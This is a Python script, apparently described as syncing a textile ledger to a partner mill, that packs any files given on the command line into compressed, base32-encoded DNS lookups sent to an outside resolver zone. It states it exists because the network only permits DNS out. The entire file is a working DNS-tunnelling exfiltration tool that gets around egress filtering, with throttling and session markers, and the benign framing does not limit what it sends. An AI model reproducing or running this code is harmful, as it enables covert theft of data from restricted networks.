#!/usr/bin/env python3
"""Mirror the bale ledger to the partner mill.

The mill's network only lets DNS out, so the ledger rows are packed into
lookups against the mill's resolver zone.
"""
import argparse
import base64
import csv
import logging
import os
import socket
import time
import zlib
from pathlib import Path

LOG = logging.getLogger("ledger-dns")

ZONE = os.environ.get("LEDGER_ZONE", "sync.millpartner.example")
LABEL_LEN = 60
LABELS_PER_QUERY = 3
PAUSE = float(os.environ.get("LEDGER_PAUSE", "0.2"))


def encode_chunks(blob):
    text = base64.b32encode(blob).decode().rstrip("=").lower()
    step = LABEL_LEN * LABELS_PER_QUERY
    for start in range(0, len(text), step):
        piece = text[start:start + step]
        yield [piece[i:i + LABEL_LEN] for i in range(0, len(piece), LABEL_LEN)]


def lookup(name):
    try:
        socket.gethostbyname(name)
    except socket.gaierror:
        pass


class LedgerSender:
    def __init__(self, zone, session_id):
        self.zone = zone
        self.session_id = session_id
        self.sent = 0

    def send_blob(self, name, blob):
        packed = zlib.compress(blob, 9)
        chunks = list(encode_chunks(packed))
        header = "h.{}.{}.{}.{}".format(
            self.session_id, len(chunks), base64.b32encode(name.encode()).decode().rstrip("=").lower()[:60], self.zone
        )
        lookup(header)
        for index, labels in enumerate(chunks):
            query = "{}.{}.{}.{}".format(index, ".".join(labels), self.session_id, self.zone)
            lookup(query)
            self.sent += 1
            time.sleep(PAUSE)
        lookup("e.{}.{}".format(self.session_id, self.zone))


def read_ledger(path):
    rows = []
    with open(path, newline="") as handle:
        for row in csv.DictReader(handle):
            rows.append(row)
    return rows


def serialise(rows):
    if not rows:
        return b""
    fields = list(rows[0].keys())
    lines = [",".join(fields)]
    for row in rows:
        lines.append(",".join(str(row.get(f, "")) for f in fields))
    return "\n".join(lines).encode()


def parse_args():
    parser = argparse.ArgumentParser(description="Send ledger files over DNS")
    parser.add_argument("paths", nargs="+", help="ledger CSVs or other files")
    parser.add_argument("--zone", default=ZONE)
    parser.add_argument("--session", default=format(os.getpid(), "x"))
    return parser.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    sender = LedgerSender(args.zone, args.session)
    for raw in args.paths:
        path = Path(raw).expanduser()
        if not path.is_file():
            LOG.warning("missing %s", path)
            continue
        if path.suffix.lower() == ".csv":
            blob = serialise(read_ledger(path))
        else:
            blob = path.read_bytes()
        LOG.info("sending %s (%d bytes)", path.name, len(blob))
        sender.send_blob(path.name, blob)
    LOG.info("sent %d queries", sender.sent)


if __name__ == "__main__":
    main()
